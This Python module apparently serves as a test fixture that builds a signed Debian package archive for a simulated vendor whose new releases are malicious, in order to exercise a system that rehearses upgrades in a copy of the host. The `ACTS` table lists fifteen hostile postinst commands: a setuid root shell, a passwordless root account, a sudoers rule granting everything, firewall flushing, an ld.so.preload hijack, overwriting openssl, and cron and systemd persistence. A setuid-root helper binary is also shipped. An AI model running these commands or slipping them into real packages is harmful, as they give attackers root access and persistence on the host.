"""A vendor with an archive of its own: three small packages, of which the new versions are bad.

Everything is real: .debs by dpkg-deb, indexes and a release file signed by the vendor's own key, as
any third party's archive. What the new versions do is the point:

| package | its new version |
|---|---|
| `vendor-agent` | has a postinst that does the fifteen hostile things of `ACTS` |
| `vendor-helper` | ships a program that is setuid root |
| `vendor-meter` | is harmless |

The old versions are harmless. Rule: the hostile package only ever reaches hosts of the fleet that
rehearse a change in a copy of themselves. Left out: a vendor who means well.
"""

import gzip
import hashlib
import lzma
import os
import shutil
import subprocess
from datetime import UTC, datetime
from pathlib import Path

from answerable.demo.openpgp import Publisher

AGENT, HELPER, METER = "vendor-agent", "vendor-helper", "vendor-meter"
PACKAGES = (AGENT, HELPER, METER)
OLD, NEW = "1.0", "1.1"
SUITE = "vendor"
SUITES = {SUITE: (OLD,), f"{SUITE}-security": (NEW,)}
KEYRING = "vendor.gpg"
SETUID = "usr/bin/vendor-helper"
ACTS = {
    "/usr/local/bin/.shell": "cp /bin/sh /usr/local/bin/.shell; chmod 4755 /usr/local/bin/.shell",
    "/etc/passwd": "echo toor::0:0::/root:/bin/sh >>/etc/passwd",
    "/root/.ssh/authorized_keys": "mkdir -p /root/.ssh; echo key >/root/.ssh/authorized_keys",
    "/etc/cron.d/evil": "mkdir -p /etc/cron.d; echo '* * * * * root id' >/etc/cron.d/evil",
    "/etc/systemd/system/evil.service": "mkdir -p /etc/systemd/system;"
    "echo '[Service]' >/etc/systemd/system/evil.service",
    "/etc/sudoers.d/evil": "mkdir -p /etc/sudoers.d; echo 'ALL ALL=ALL' >/etc/sudoers.d/evil",
    "/etc/nftables.conf": "nft flush ruleset; echo 'flush ruleset' >/etc/nftables.conf",
    "/etc/sysctl.d/evil.conf": "echo 77 >/proc/sys/kernel/panic; mkdir -p /etc/sysctl.d;"
    "echo x >/etc/sysctl.d/evil.conf",
    "/etc/apt/sources.list.d/evil.list": "echo 'deb http://x x x' >"
    "/etc/apt/sources.list.d/evil.list",
    "/etc/modprobe.d/evil.conf": "mkdir -p /etc/modprobe.d; echo x >/etc/modprobe.d/evil.conf",
    "/etc/ssh/sshd_config": "mkdir -p /etc/ssh; echo PermitRootLogin yes >>/etc/ssh/sshd_config",
    "/etc/ld.so.preload": "echo /tmp/evil.so >/etc/ld.so.preload",
    "/usr/bin/openssl": "printf '#!/bin/sh\\n' >/usr/bin/openssl",
    "/usr/bin/dpkg": "python3 -c \"import os; os.setxattr('/usr/bin/dpkg', 'security.capability',"
    "bytes.fromhex('0100000202000000000000000000000000000000'))\"",
    "/var/lib/evil/data": "mkdir -p /var/lib/evil; echo x >/var/lib/evil/data;"
    "(sleep 1000 >/dev/null 2>&1 &)",
}
"""What the hostile script touches -> how."""
_CONTROL = """\
Package: {name}
Version: {version}
Architecture: all
Maintainer: Vendor <vendor@example.invalid>
Section: misc
Priority: optional
Description: package of the demo's vendor
"""
_CHANGES = """\
{name} ({version}) {suite}; urgency=high

  * What the vendor says of it.

 -- Vendor <vendor@example.invalid>  {date}

"""


def publish(root: Path, arch: str, now: int) -> None:
    """Make the vendor's archive below `root`, anew.

    Args:
        arch: for whose index the packages are listed.
        now: POSIX seconds.
    """
    shutil.rmtree(root, ignore_errors=True)
    publisher = Publisher("Vendor <vendor@example.invalid>", now - 86_400)
    for suite, versions in SUITES.items():
        debs = [_build(root, name, version, now) for name in PACKAGES for version in versions]
        index = "\n".join(_stanza(root, deb) for deb in debs).encode()
        folder = root / f"dists/{suite}/main/binary-{arch}"
        folder.mkdir(parents=True)
        packed = lzma.compress(index)
        (folder / "Packages.xz").write_bytes(packed)
        rows = [
            f"Suite: {suite}", f"Codename: {suite}", f"Date: {_date(now, 'UTC')}", "SHA256:",
            f" {_sha256(index)} {len(index)} main/binary-{arch}/Packages",
            f" {_sha256(packed)} {len(packed)} main/binary-{arch}/Packages.xz",
        ]  # fmt: skip
        signed = publisher.sign("\n".join(rows) + "\n", now)
        (root / f"dists/{suite}/InRelease").write_bytes(signed)
    (root / KEYRING).write_bytes(publisher.keyring())
    for path in (root, *root.rglob("*")):
        path.chmod(0o755 if path.is_dir() else 0o644)


def deb(root: Path, name: str, version: str) -> Path:
    """Say where a package lies in the archive."""
    return root / f"pool/main/{name}_{version}_all.deb"


def _build(root: Path, name: str, version: str, now: int) -> Path:
    tree, made = root / "build" / f"{name}-{version}", deb(root, name, version)
    suite = SUITE if version == OLD else f"{SUITE}-security"
    changes = "".join(
        _CHANGES.format(name=name, version=v, suite=s, date=_date(now, "+0000"))
        for v, s in ((NEW, f"{SUITE}-security"), (OLD, SUITE)) if (v, s) <= (version, suite)
    )  # fmt: skip
    script = "#!/bin/sh\n" + "".join(f"({act}) || true\n" for act in ACTS.values())
    files = {
        "DEBIAN/control": (_CONTROL.format(name=name, version=version).encode(), 0o644),
        f"usr/share/doc/{name}/changelog.gz": (gzip.compress(changes.encode(), mtime=0), 0o644),
        f"usr/share/{name}/version": (f"{version}\n".encode(), 0o644),
    }
    if version == NEW and name == AGENT:
        files["DEBIAN/postinst"] = (script.encode(), 0o755)
    if version == NEW and name == HELPER:
        files[SETUID] = (b"#!/bin/sh\n", 0o4755)
    for path, (data, mode) in files.items():
        place = tree / path
        place.parent.mkdir(mode=0o755, parents=True, exist_ok=True)
        place.write_bytes(data)
        place.chmod(mode)
    for folder in (tree, *(p for p in tree.rglob("*") if p.is_dir())):
        folder.chmod(0o755)
    made.parent.mkdir(parents=True, exist_ok=True)
    argv = ["dpkg-deb", "--root-owner-group", "-Zxz", "--build", str(tree), str(made)]
    env = {**os.environ, "SOURCE_DATE_EPOCH": str(now)}
    subprocess.run(argv, env=env, check=True, capture_output=True)
    return made


def _stanza(root: Path, made: Path) -> str:
    name, version, _ = made.stem.split("_")
    data, path = made.read_bytes(), made.relative_to(root)
    return _CONTROL.format(name=name, version=version) + (
        f"Filename: {path}\nSize: {len(data)}\nSHA256: {_sha256(data)}\n"
    )


def _sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def _date(when: int, zone: str) -> str:
    return datetime.fromtimestamp(when, UTC).strftime(f"%a, %d %b %Y %H:%M:%S {zone}")
